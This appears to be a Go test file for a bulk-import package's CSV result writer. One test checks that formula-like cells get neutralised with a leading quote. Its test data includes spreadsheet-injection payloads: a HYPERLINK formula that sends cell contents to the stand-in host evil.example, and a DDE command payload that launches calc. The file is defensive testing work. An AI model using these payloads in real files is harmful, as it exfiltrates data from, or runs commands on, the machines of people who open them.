package bulk

import (
	"bytes"
	"encoding/csv"
	"errors"
	"reflect"
	"strconv"
	"testing"

	"github.com/guestflow/guestflow/pkg/events"
)

func TestWriteResults(t *testing.T) {
	rows := []Row{
		{Line: 3, Email: "ana@fabrikam.com", Status: Published, ID: "id-3"},
		{Line: 4, Email: "Ana@Fabrikam.com", Status: Duplicate, Err: errors.New("same address as line 3; skipped")},
		{Line: 5, Email: "liam@contoso.example", Status: Rejected, Err: Problems{
			&events.FieldError{Field: "usageLocation", Problem: `"UK" is not a country code`},
			&events.FieldError{Field: "sendEmail", Problem: "bad, really"}}},
	}
	var buf bytes.Buffer
	if err := WriteResults(&buf, rows); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("result file is not CSV: %v\n%s", err, buf.String())
	}
	want := [][]string{
		{"line", "email", "status", "onboardingid", "error"},
		{"3", "ana@fabrikam.com", "published", "id-3", ""},
		{"4", "Ana@Fabrikam.com", "duplicate", "", "same address as line 3; skipped"},
		{"5", "liam@contoso.example", "rejected", "", `usageLocation: "UK" is not a country code; sendEmail: bad, really`},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("results\n%q\nwant\n%q", got, want)
	}
}

// TestWriteResultsNeutralisesFormulas: a hostile sheet's cells come back in
// the email and error columns, and the result file is opened in a
// spreadsheet.
func TestWriteResultsNeutralisesFormulas(t *testing.T) {
	var rows []Row
	for i, cell := range []string{`=HYPERLINK("http://evil.example?"&A1,"x")`, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "ana@fabrikam.com", "a=b"} {
		rows = append(rows, Row{Line: i + 3, Email: cell, Status: Rejected, ID: cell,
			Err: &events.FieldError{Field: "email", Problem: "bad"}})
	}
	rows = append(rows, Row{Line: 20, Email: "x@y.example", Status: Duplicate, Err: errors.New("=cmd|' /C calc'!A0")})
	var buf bytes.Buffer
	if err := WriteResults(&buf, rows); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, want := range []string{`'=HYPERLINK("http://evil.example?"&A1,"x")`, "'+1+1", "'-2+3", "'@SUM(1)", "'\t=1", "'\r=1", "ana@fabrikam.com", "a=b"} {
		if r := got[i+1]; r[1] != want || r[3] != want || r[0] != strconv.Itoa(i+3) {
			t.Errorf("row %d: %q, want email and onboardingid %q", i, r, want)
		}
	}
	if r := got[len(got)-1]; r[4] != "'=cmd|' /C calc'!A0" || r[2] != "duplicate" {
		t.Errorf("error cell %q", r)
	}
}
